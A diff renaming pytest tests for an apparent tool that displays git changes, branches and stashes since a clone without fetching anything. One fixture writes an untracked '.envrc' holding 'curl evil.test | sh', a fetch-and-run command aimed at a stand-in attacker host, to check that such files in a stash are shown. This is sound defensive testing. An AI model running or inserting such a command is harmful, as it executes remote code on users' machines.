@@ -20,7 +20,7 @@ def shown(world: World, *, stat: bool = False) -> dict[str, str]:
         return {one.name: difference(checked, world.clone, one, words) for one in branches}
 
 
-def test_the_changes_since_the_clone_was_made_are_shown_and_nothing_is_fetched(world: World) -> None:
+def test_shows_changes_since_the_clone_was_made_and_fetches_nothing(world: World) -> None:
     commit(world.work, text="one\ntwo\n")
     before = git(world.host, "count-objects", "--verbose")
     assert shown(world)["main"].endswith("--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n one\n+two\n")
@@ -28,7 +28,7 @@ def test_the_changes_since_the_clone_was_made_are_shown_and_nothing_is_fetched(w
     assert (git(world.host, "count-objects", "--verbose"), world.fetched()) == (before, {})
 
 
-def test_what_the_project_did_meanwhile_is_not_shown(world: World) -> None:
+def test_does_not_show_changes_that_the_project_made_meanwhile(world: World) -> None:
     commit(world.work, name="b.txt", text="b\n")
     commit(world.host, text="other\n")
     git(world.work, "pull", "--quiet", "--no-rebase", "--no-edit", str(world.host), "main")
@@ -36,7 +36,7 @@ def test_what_the_project_did_meanwhile_is_not_shown(world: World) -> None:
     assert " b.txt | 1 +\n" in shown(world, stat=True)["main"]
 
 
-def test_a_new_branch_is_compared_with_where_it_left_and_one_without_history_with_nothing(world: World) -> None:
+def test_compares_a_new_branch_with_its_fork_point_and_an_orphan_branch_with_nothing(world: World) -> None:
     git(world.work, "switch", "--quiet", "--create", "topic")
     commit(world.work, name="b.txt", text="b\n")
     git(world.work, "switch", "--quiet", "--orphan", "new")
@@ -53,7 +53,7 @@ def test_a_long_difference_is_cut(world: World, monkeypatch: pytest.MonkeyPatch)
     assert len(shown(world)["main"]) < 400
 
 
-def test_a_stash_is_shown_with_the_files_that_git_did_not_track(world: World) -> None:
+def test_shows_a_stash_with_its_untracked_files(world: World) -> None:
     """`git stash apply` writes them, too."""
     (world.work / "a.txt").write_text("stashed\n")
     (world.work / ".envrc").write_text("curl evil.test | sh\n")
@@ -63,7 +63,7 @@ def test_a_stash_is_shown_with_the_files_that_git_did_not_track(world: World) ->
     assert "+++ b/.envrc\n@@ -0,0 +1 @@\n+curl evil.test | sh\n" in text
 
 
-def test_a_stash_is_compared_with_its_parent_and_what_only_looks_like_one_with_the_start(world: World) -> None:
+def test_compares_a_stash_with_its_parent_and_a_plain_commit_in_its_place_with_the_start(world: World) -> None:
     start = git(world.work, "rev-parse", "HEAD")
     commit(world.work, text="in between\n")
     (world.work / "b.txt").write_text("b\n")
@@ -80,7 +80,7 @@ def test_a_stash_is_compared_with_its_parent_and_what_only_looks_like_one_with_t
     assert text == " c.txt | 1 +\n 1 file changed, 1 insertion(+)\n"
 
 
-def test_a_stash_whose_parents_git_does_not_name_is_not_shown(world: World) -> None:
+def test_a_stash_whose_parents_git_cannot_list_is_an_error(world: World) -> None:
     missing = Branch(name="stash-1", reference="", commit="1" * 40, before="", stash=True)
     with (
         checked_branches(world.volume, world.clone, world.repository, world.status()) as (checked, _),
